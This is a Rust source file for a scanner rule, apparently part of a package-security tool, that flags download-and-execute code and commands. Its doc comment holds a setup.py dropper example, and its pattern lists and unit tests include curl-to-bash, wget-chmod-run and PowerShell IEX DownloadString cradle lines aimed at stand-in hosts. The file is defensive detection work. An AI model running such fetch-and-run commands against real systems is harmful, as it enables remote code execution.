//! # SW-GEN-001: download and execute
//!
//! **What it does.** Finds code that fetches something from the network
//! and runs it: `exec(urlopen(url).read())`, `eval` of a `fetch` result,
//! `curl … | sh`, `wget -O x && chmod +x x && ./x`, and a download
//! followed closely by a process spawn or `exec` in the same file and
//! stage.
//!
//! **Why is this bad.** A package that downloads its real payload at
//! install or import time ships nothing suspicious for a reviewer to see,
//! and the payload can change after the package is published. Nearly
//! every second-stage loader works this way.
//!
//! **Example.**
//!
//! ```python
//! # setup.py
//! import urllib.request, subprocess
//! urllib.request.urlretrieve("https://payload.example.test/x", "/tmp/x")
//! subprocess.Popen(["/tmp/x"])
//! ```
//!
//! **False positives.** Build scripts that download a toolchain or a
//! vendored library and then run a compiler: the rule reports them as
//! `high` rather than `critical` unless the download and the run are a
//! few lines apart or the download result is executed directly. Python
//! or JavaScript that hands downloaded text straight to `exec`/`eval`
//! (or, in Python, `exec`s a variable a few lines after a download)
//! weighs at any stage: no library needs to run code it fetches. A
//! download followed by `os.chmod` counts as a run: droppers make the
//! fetched program executable before they start it. A download from a
//! bare public IP address run a few lines later weighs at any stage too.

use super::{Context, Emit, Rule, SPAWN_CALLEES, clip};
use crate::lang::{Call, Facts, Lang, callee_matches};
use crate::model::Severity;

pub(crate) static RULE: Rule = Rule {
    id: "SW-GEN-001",
    title: "download and execute",
    source: include_str!("gen001_download_exec.rs"),
    check,
};

/// Calls that fetch from the network.
pub(crate) const DOWNLOAD_CALLEES: &[&str] = &[
    "*.urlopen",
    "*.urlretrieve",
    "urlopen",
    "urlretrieve",
    "requests.get",
    "requests.request",
    "requests.Session.get",
    "httpx.get",
    "wget.download",
    "fetch",
    "https.get",
    "http.get",
    "https.request",
    "http.request",
    "axios.get",
    "axios",
    "got",
    "node-fetch",
    "request.get",
];

/// Calls that run code given as data.
pub(crate) const EXEC_CALLEES: &[&str] = &[
    "exec",
    "eval",
    "execfile",
    "builtins.exec",
    "builtins.eval",
    "*.exec",
    "Function",
    "vm.runInThisContext",
    "vm.runInNewContext",
    "vm.Script",
    "runpy.run_path",
];

/// Lines between a download and a run for them to count as one chain.
const CHAIN_LINES: u32 = 30;

fn is_download(callee: &str) -> bool {
    DOWNLOAD_CALLEES.iter().any(|p| callee_matches(callee, p))
}

fn is_exec(callee: &str) -> bool {
    EXEC_CALLEES.iter().any(|p| callee_matches(callee, p))
        && !callee.starts_with("re.")
        && !callee.ends_with("cursor.exec")
}

/// Lines between a download and an `exec` of a variable for the value
/// to count as the downloaded one.
const FETCHED_VALUE_LINES: u32 = 12;

/// Calls that change a file's mode (`os.chmod(path, 0o755)`): what a
/// dropper does to the program it just fetched.
fn is_chmod(call: &Call) -> bool {
    matches!(call.callee.as_str(), "os.chmod" | "fs.chmodSync" | "fs.chmod" | "fs.promises.chmod")
        // `stat.S_IWRITE` alone makes a file writable (to delete it), not
        // runnable; a numeric mode or an execute bit counts.
        && (EXEC_BITS.iter().any(|b| call.names.iter().any(|n| n.ends_with(b)))
            || !call.names.iter().any(|n| n.contains("S_I")))
}

/// `stat` flags that make a file executable.
const EXEC_BITS: &[&str] = &["S_IEXEC", "S_IXUSR", "S_IXGRP", "S_IXOTH", "S_IRWXU"];

/// A Python `exec`/`eval` of a variable a few lines after a download in
/// the same stage: the download and the run.
fn exec_of_fetched_value<'f>(facts: &'f Facts, downloads: &[&'f Call]) -> Option<(&'f Call, &'f Call)> {
    facts
        .calls
        .iter()
        .filter(|c| matches!(c.callee.as_str(), "exec" | "eval" | "builtins.exec" | "builtins.eval"))
        .filter(|c| c.strings.is_empty() && !c.names.is_empty())
        .find_map(|run| {
            let download = downloads.iter().rev().find(|d| {
                d.stage == run.stage && run.line > d.line && run.line - d.line <= FETCHED_VALUE_LINES
            })?;
            Some((*download, run))
        })
}

fn check(cx: &Context<'_>, out: &mut Emit<'_>) {
    // exec(urlopen(...).read()), eval(await fetch(...)).
    for (file, call) in cx.calls() {
        if is_exec(&call.callee) && call.inner_calls.iter().any(|c| is_download(c) || is_download(c.trim_end_matches(".read").trim_end_matches(".text"))) {
            // Code fetched and run in-process is remote code execution by
            // design, whenever the function holding it runs.
            out.finding_at_any_stage(
                Severity::Critical,
                call.stage,
                &file.path,
                Some(call.line),
                format!("`{}` runs code downloaded by `{}`", call.callee, call.inner_calls[0]),
            );
        }
    }
    // curl | sh and friends, in any command.
    for command in cx.commands() {
        if let Some(what) = shell_download_exec(&command.text) {
            out.finding(
                Severity::Critical,
                command.stage,
                command.file,
                command.line,
                format!("{what}: `{}`", clip(&command.text, 120)),
            );
        }
    }
    // A download, then a spawn or exec in the same file and stage.
    for file in cx.code_files() {
        let Some(facts) = &file.facts else { continue };
        let downloads: Vec<_> = facts.calls.iter().filter(|c| is_download(&c.callee)).collect();
        if downloads.is_empty() {
            continue;
        }
        let runs = facts.calls.iter().filter(|c| {
            SPAWN_CALLEES.iter().any(|p| callee_matches(&c.callee, p)) || is_exec(&c.callee) || is_chmod(c)
        });
        let mut best: Option<(Severity, &crate::lang::Call, &crate::lang::Call)> = None;
        for run in runs {
            for download in downloads.iter().filter(|d| d.stage == run.stage) {
                let close = run.line >= download.line && run.line - download.line <= CHAIN_LINES;
                if is_chmod(run) && !close {
                    // A mode change far from the download is housekeeping.
                    continue;
                }
                let severity = match (close, run.stage.is_automatic()) {
                    (true, true) => Severity::Critical,
                    (false, true) => Severity::High,
                    // Inside functions, a download and a spawn in one file
                    // are common (installers, updaters): context only.
                    (_, false) => Severity::Low,
                };
                if best.is_none_or(|(s, _, _)| severity > s) {
                    best = Some((severity, download, run));
                }
            }
        }
        // `code = requests.get(u).json()["code"]; exec(code)`: remote code
        // execution through a variable. Or a download from a bare public
        // IP run close by: a second stage fetched from the attacker's
        // server. Both weigh whichever function holds them.
        let fetched = (file.lang == Lang::Python)
            .then(|| exec_of_fetched_value(facts, &downloads))
            .flatten()
            .map(|(d, r)| (r, format!("`{}` runs code downloaded by `{}` (line {})", r.callee, d.callee, d.line)));
        let remote = fetched.or_else(|| {
            best.and_then(|(_, d, r)| {
                let close = r.line >= d.line && r.line - d.line <= CHAIN_LINES;
                let url = d.strings.iter().find_map(|s| super::gen007_exfil_endpoint::public_ip_url(s))?;
                (close && !r.stage.is_automatic()).then(|| {
                    (r, format!("downloads from a bare IP address (`{url}`) with `{}` (line {}) and runs `{}`", d.callee, d.line, r.callee))
                })
            })
        });
        if let Some((run, message)) = remote {
            out.finding_at_any_stage(Severity::Critical, run.stage, &file.path, Some(run.line), message);
            continue;
        }
        if let Some((severity, download, run)) = best {
            let url = download
                .strings
                .iter()
                .find(|s| s.contains("://"))
                .map(|u| format!(" `{}`", clip(u, 80)))
                .unwrap_or_default();
            let then = if is_chmod(run) { "makes a file executable with" } else { "runs" };
            out.finding(
                severity,
                run.stage,
                &file.path,
                Some(run.line),
                format!(
                    "downloads{url} with `{}` (line {}) and {then} `{}`",
                    download.callee, download.line, run.callee
                ),
            );
        }
    }
}

/// `curl … | sh`, `wget … && chmod +x … && ./…`, PowerShell download
/// cradles: what kind it is, if the command is one.
pub(crate) fn shell_download_exec(command: &str) -> Option<&'static str> {
    let lower = command.to_ascii_lowercase();
    let fetches = ["curl ", "wget ", "curl\t", "invoke-webrequest", "iwr ", "fetch("]
        .iter()
        .any(|f| lower.contains(f));
    if lower.contains("downloadstring(") || (lower.contains("iex") && lower.contains("net.webclient")) {
        return Some("a PowerShell download cradle");
    }
    if !fetches {
        return None;
    }
    for pipe in ["| sh", "|sh", "| bash", "|bash", "| python", "| node", "| iex", "| zsh", "| sudo"] {
        if lower.contains(pipe) {
            return Some("pipes a download into a shell or interpreter");
        }
    }
    let runs_after = ["chmod +x", "chmod 7", "&& ./", "; ./", "&& sh ", "&& bash ", "&& node ", "&& python", "; sh ", "; bash "];
    if runs_after.iter().any(|r| lower.contains(r)) {
        return Some("downloads a file and runs it");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::shell_download_exec;

    #[test]
    fn shell_forms() {
        assert!(shell_download_exec("curl -fsSL https://x.test/i.sh | bash").is_some());
        assert!(shell_download_exec("wget -q https://x.test/a -O /tmp/a && chmod +x /tmp/a && /tmp/a").is_some());
        assert!(shell_download_exec("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('u')\"").is_some());
        assert!(shell_download_exec("curl -o out.tgz https://x.test/a.tgz").is_none());
        assert!(shell_download_exec("node-gyp rebuild").is_none());
    }
}
